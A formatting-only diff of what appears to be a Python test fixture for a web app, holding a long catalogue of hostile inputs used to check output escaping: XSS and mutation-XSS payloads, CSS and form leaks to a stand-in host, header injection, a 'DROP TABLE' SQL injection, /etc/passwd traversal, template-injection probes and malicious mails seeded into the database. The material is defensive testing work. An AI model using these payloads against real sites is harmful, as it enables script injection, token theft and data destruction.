@@ -1,6 +1,8 @@
-"""What an attacker would put into names, errors, payloads and mails, and a database that holds it in every place there is.
+"""What an attacker would put into names, errors, payloads and mails, and a database that holds it
+in every place there is.
 
-What runs a script calls `alert('hacked')`; what loads something loads it from `REMOTE`. A test that sees either has found a hole.
+What runs a script calls `alert('hacked')`; what loads something loads it from `REMOTE`. A test that
+sees either has found a hole.
 """
 
 from __future__ import annotations
@@ -20,7 +22,10 @@ REMOTE = "http://tracker.invalid"
 PNG = base64.b64decode(
     "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
 )
-SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script><image href="{REMOTE}/svg"/></svg>'
+SVG = (
+    f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script><image'
+    f' href="{REMOTE}/svg"/></svg>'
+)
 
 TEXTS: list[tuple[str, str]] = [
     ("script", f"<script>{RUN}</script>"),
@@ -36,21 +41,36 @@ TEXTS: list[tuple[str, str]] = [
     ("out of the attribute", f'"><script>{RUN}</script>'),
     ("out of the title", f"</title><script>{RUN}</script>"),
     ("out of the text area", f"</textarea></pre></option></select><script>{RUN}</script>"),
-    ("out of the table", f"</td></tr></table><form action={REMOTE}><input name=token autofocus><button>go"),
+    (
+        "out of the table",
+        f"</td></tr></table><form action={REMOTE}><input name=token autofocus><button>go",
+    ),
     ("out of the page", f"</main></body></html><script>{RUN}</script>"),
     ("javascript link", f"javascript:{RUN}"),
     ("javascript link, hidden", f"jav\tascript:{RUN}"),
     ("javascript link, encoded", f"&#106;avascript:{RUN}"),
     ("data link", f"data:text/html,<script>{RUN}</script>"),
-    ("data link, encoded", "data:text/html;base64," + base64.b64encode(f"<script>{RUN}</script>".encode()).decode()),
+    (
+        "data link, encoded",
+        "data:text/html;base64," + base64.b64encode(f"<script>{RUN}</script>".encode()).decode(),
+    ),
     ("vbscript link", 'vbscript:msgbox("hacked")'),
     ("address of another site", "//tracker.invalid/x"),
     ("svg", SVG),
     ("svg that animates", f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>"),
     ("svg link", f'<svg><a xlink:href="javascript:{RUN}"><text y=20>here</text></a></svg>'),
-    ("mathml", f'<math><maction actiontype="statusline#{REMOTE}" xlink:href="javascript:{RUN}">x</maction></math>'),
+    (
+        "mathml",
+        (
+            f'<math><maction actiontype="statusline#{REMOTE}"'
+            f' xlink:href="javascript:{RUN}">x</maction></math>'
+        ),
+    ),
     ("mutation by svg", f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">'),
-    ("mutation by mathml", f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>"),
+    (
+        "mutation by mathml",
+        f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
+    ),
     ("mutation by noscript", f'<noscript><p title="</noscript><img src=x onerror={RUN}>">'),
     ("mutation by template", f"<template><style></template><img src=x onerror={RUN}></style>"),
     ("mutation by xmp", f'<xmp><p title="</xmp><svg onload={RUN}>">'),
@@ -59,29 +79,56 @@ TEXTS: list[tuple[str, str]] = [
     ("object", f'<object data="javascript:{RUN}"></object><embed src="{REMOTE}/x.swf">'),
     ("base", f'<base href="{REMOTE}/">'),
     ("refresh", f'<meta http-equiv="refresh" content="0;url={REMOTE}/">'),
-    ("policy", '<meta http-equiv="Content-Security-Policy" content="script-src \'unsafe-inline\'">'),
-    ("style sheet", f'<link rel=stylesheet href="{REMOTE}/x.css"><link rel=dns-prefetch href="{REMOTE}">'),
-    ("style that tells", f"<style>input[value^=a]{{background:url({REMOTE}/a)}} @import '{REMOTE}/i.css';</style>"),
-    ("style attribute", f'<p style="background:url({REMOTE}/s);behavior:url(x);width:expression({RUN})">x</p>'),
+    (
+        "policy",
+        '<meta http-equiv="Content-Security-Policy" content="script-src \'unsafe-inline\'">',
+    ),
+    (
+        "style sheet",
+        f'<link rel=stylesheet href="{REMOTE}/x.css"><link rel=dns-prefetch href="{REMOTE}">',
+    ),
+    (
+        "style that tells",
+        f"<style>input[value^=a]{{background:url({REMOTE}/a)}} @import '{REMOTE}/i.css';</style>",
+    ),
+    (
+        "style attribute",
+        f'<p style="background:url({REMOTE}/s);behavior:url(x);width:expression({RUN})">x</p>',
+    ),
     ("form that sends the token", f'<button form="act" formaction="{REMOTE}/">press</button>'),
     ("button that acts", '<button form="act" formaction="/parked/discard-all">press</button>'),
     ("comment", f"--><script>{RUN}</script><!--"),
     ("conditional comment", f"<!--[if gte IE 4]><script>{RUN}</script><![endif]-->"),
     ("CDATA", f"]]><script>{RUN}</script><![CDATA["),
-    ("processing instruction", f"<?xml-stylesheet href='javascript:{RUN}'?><!DOCTYPE x [<!ENTITY y 'z'>]>"),
+    (
+        "processing instruction",
+        f"<?xml-stylesheet href='javascript:{RUN}'?><!DOCTYPE x [<!ENTITY y 'z'>]>",
+    ),
     ("template, jinja", "{{7*7}}{{config}}{{ ''.__class__.__mro__ }}"),
     ("template, statement", "{% include '/etc/passwd' %}{# gone #}{%raw%}"),
     ("template, others", "${7*7}#{7*7}<%= 7*7 %>[[7*7]]"),
     ("format", "%s%n%(name)s{0}{name!r}"),
-    ("entities", f"&lt;script&gt;{RUN}&lt;/script&gt; &amp;lt; &#x3c;img src=x onerror={RUN}&#x3e;"),
-    ("event stream", f"x\r\revent: live\rdata: <img src=x onerror={RUN}>\r\revent: end\ndata: \n\n"),
-    ("header", "x\r\nSet-Cookie: polling_session=theirs\r\nLocation: " + REMOTE + "\r\n\r\n<script>"),
+    (
+        "entities",
+        f"&lt;script&gt;{RUN}&lt;/script&gt; &amp;lt; &#x3c;img src=x onerror={RUN}&#x3e;",
+    ),
+    (
+        "event stream",
+        f"x\r\revent: live\rdata: <img src=x onerror={RUN}>\r\revent: end\ndata: \n\n",
+    ),
+    (
+        "header",
+        "x\r\nSet-Cookie: polling_session=theirs\r\nLocation: " + REMOTE + "\r\n\r\n<script>",
+    ),
     ("sql", "'; DROP TABLE sync_task; --"),
     ("path", "../../../../etc/passwd\\..\\..\\boot.ini"),
     ("nulls and controls", "a\x00b\x01c\x0bd\x0ce\x1bf\x7fg\u2400h%00&#0;\x85"),
     ("turned around", "\u202egnp.exe\u202c \u2066\u202b\u2069 \u200f"),
     ("invisible", "\u200b\u200d\ufeff\u2060\u00ad\ue0001\U000e0041"),
-    ("wide brackets", f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e \u02bascript\u02ba \u2039img\u203a"),
+    (
+        "wide brackets",
+        f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e \u02bascript\u02ba \u2039img\u203a",
+    ),
     ("long s", f"<\u017fcript>{RUN}</\u017fcript> <\u0130mg src=x onerror={RUN}>"),
     ("half characters", "\ud800<script>\udfff"),
     ("many marks", "Z" + "\u0351\u0300\u0340" * 300),
@@ -92,17 +139,28 @@ TEXTS: list[tuple[str, str]] = [
     ("nothing", ""),
     ("blanks", " \t\n "),
     ("svg file", SVG),
-    ("svg as an image", f'<img src="data:image/svg+xml;base64,{base64.b64encode(SVG.encode()).decode()}">'),
+    (
+        "svg as an image",
+        f'<img src="data:image/svg+xml;base64,{base64.b64encode(SVG.encode()).decode()}">',
+    ),
     (
         "page as an image",
-        f'<img src="data:text/html,{REMOTE}"><img src="data:image/png,x"><img src="/sign-out"><img src="//x">',
+        (
+            f'<img src="data:text/html,{REMOTE}"><img src="data:image/png,x"><img'
+            ' src="/sign-out"><img src="//x">'
+        ),
     ),
 ]
 """Name and text. What PostgreSQL cannot hold of them is replaced as the engine replaces it."""
 
 
-def _mail(body: str, headers: str = "Content-Type: text/html; charset=utf-8", subject: str = "Hello") -> bytes:
-    return f"From: a@b.invalid\r\nTo: c@d.invalid\r\nSubject: {subject}\r\nMIME-Version: 1.0\r\n{headers}\r\n\r\n{body}".encode()
+def _mail(
+    body: str, headers: str = "Content-Type: text/html; charset=utf-8", subject: str = "Hello"
+) -> bytes:
+    return (
+        f"From: a@b.invalid\r\nTo: c@d.invalid\r\nSubject: {subject}\r\nMIME-Version:"
+        f" 1.0\r\n{headers}\r\n\r\n{body}".encode()
+    )
 
 
 def _multipart(*parts: str, kind: str = "mixed", boundary: str = "xx") -> bytes:
@@ -111,13 +169,24 @@ def _multipart(*parts: str, kind: str = "mixed", boundary: str = "xx") -> bytes:
 
 
 def _nested(depth: int) -> bytes:
-    opened = "".join(f'Content-Type: multipart/mixed; boundary="b{n}"\r\n\r\n--b{n}\r\n' for n in range(depth))
-    return f"From: a@b.invalid\r\nMIME-Version: 1.0\r\n{opened}Content-Type: text/html\r\n\r\n<script>{RUN}</script>".encode()
+    opened = "".join(
+        f'Content-Type: multipart/mixed; boundary="b{n}"\r\n\r\n--b{n}\r\n' for n in range(depth)
+    )
+    return (
+        f"From: a@b.invalid\r\nMIME-Version: 1.0\r\n{opened}Content-Type:"
+        f" text/html\r\n\r\n<script>{RUN}</script>".encode()
+    )
 
 
-_HTML = f"<p>visible words</p><script>{RUN}</script><img src=x onerror={RUN}><img src='{REMOTE}/pixel.gif'>"
+_HTML = (
+    f"<p>visible words</p><script>{RUN}</script><img src=x onerror={RUN}><img"
+    f" src='{REMOTE}/pixel.gif'>"
+)
 _ENCODED = base64.b64encode(PNG).decode()
-_INLINE = f"Content-Type: image/png\r\nContent-ID: <pic>\r\nContent-Transfer-Encoding: base64\r\n\r\n{_ENCODED}"
+_INLINE = (
+    "Content-Type: image/png\r\nContent-ID: <pic>\r\nContent-Transfer-Encoding:"
+    f" base64\r\n\r\n{_ENCODED}"
+)
 
 MAILS: list[tuple[str, bytes]] = [
     ("all texts as HTML", _mail("".join(f"<div>{mended(text)}</div>" for _, text in TEXTS if len(text) < 1_000))),
@@ -199,23 +268,30 @@ LISTS = ["/", "/runs", "/parked", "/content", "/accounts", "/integrations"]
 _numbers = itertools.count(1)
 
 ACCOUNT = """
-INSERT INTO user_integration (id, user_id, integration_domain, name, identity, config, credentials, sync_status, status_reason,
+INSERT INTO user_integration (id, user_id, integration_domain, name, identity, config, credentials,
+    sync_status, status_reason,
     status_detail, limit_group)
-VALUES (%(account)s, %(user)s, %(domain)s, %(text)s, %(identity)s, %(json)s, 'sealed', 'error', 'credentials', %(text)s, %(text)s)
+VALUES (%(account)s, %(user)s, %(domain)s, %(text)s, %(identity)s, %(json)s, 'sealed', 'error',
+    'credentials', %(text)s, %(text)s)
 """
 RUNNING = """
-INSERT INTO sync_run (id, user_integration_id, integration_domain, lane, trigger, state, start_seq, error)
+INSERT INTO sync_run (id, user_integration_id, integration_domain, lane, trigger, state, start_seq,
+    error)
 VALUES (%(run)s, %(account)s, %(domain)s, 'live', 'manual', 'running', 1, %(text)s)
 """
 ENDED = """
-INSERT INTO sync_run (id, user_integration_id, integration_domain, lane, trigger, state, start_seq, error, finished_at)
+INSERT INTO sync_run (id, user_integration_id, integration_domain, lane, trigger, state, start_seq,
+    error, finished_at)
 VALUES (gen_random_uuid(), %(account)s, %(domain)s, 'live', 'manual', 'failed', 1, %(text)s, now())
 """
 TASK = """
-INSERT INTO sync_task (run_id, user_integration_id, integration_domain, lane, parent_id, type, payload, dedup_key, state, reason,
+INSERT INTO sync_task (run_id, user_integration_id, integration_domain, lane, parent_id, type,
+    payload, dedup_key, state, reason,
     errors, attempts, followups, finished_at)
-VALUES (%(run)s, %(account)s, %(domain)s, 'live', %(parent)s, 'step', %(json)s, decode(md5(random()::text), 'hex'), 'parked',
-    %(text)s, jsonb_build_array(jsonb_build_object('at', now(), 'attempt', 1, 'error', %(text)s::text)), 1, %(followups)s, now())
+VALUES (%(run)s, %(account)s, %(domain)s, 'live', %(parent)s, 'step', %(json)s,
+    decode(md5(random()::text), 'hex'), 'parked',
+    %(text)s, jsonb_build_array(jsonb_build_object('at', now(), 'attempt', 1, 'error',
+        %(text)s::text)), 1, %(followups)s, now())
 RETURNING id
 """
 BLOCK = """
@@ -223,15 +299,20 @@ INSERT INTO limit_block (key, until, reason)
 VALUES ('account/' || %(account)s::text || '/' || %(id)s, now() + interval '1 day', %(text)s)
 """
 CONTENT = """
-INSERT INTO user_integration_content (user_integration_id, integration_domain, external_id, kind, parent, name, content_type,
+INSERT INTO user_integration_content (user_integration_id, integration_domain, external_id, kind,
+    parent, name, content_type,
     content_text, content_bytes, size, metadata, digest, content_seq, metadata_seq)
-VALUES (%(account)s, %(domain)s, %(id)s, %(text)s, %(parent)s, %(text)s, %(type)s, %(body)s, %(bytes)s, 1, %(json)s, '', 1, 1)
+VALUES (%(account)s, %(domain)s, %(id)s, %(text)s, %(parent)s, %(text)s, %(type)s, %(body)s,
+    %(bytes)s, 1, %(json)s, '', 1, 1)
 RETURNING id
 """
 
 
-def fill(conn: Conn, name: str, text: str, *, user: str | None = None, domain: str = "locked") -> Filled:
-    """An account, two runs, two parked tasks and three items, with this text wherever one from outside can be.
+def fill(
+    conn: Conn, name: str, text: str, *, user: str | None = None, domain: str = "locked"
+) -> Filled:
+    """An account, two runs, two parked tasks and three items, with this text wherever one from
+    outside can be.
 
     Parameters:
       user: Whose account. Default: the text is the user's id too.
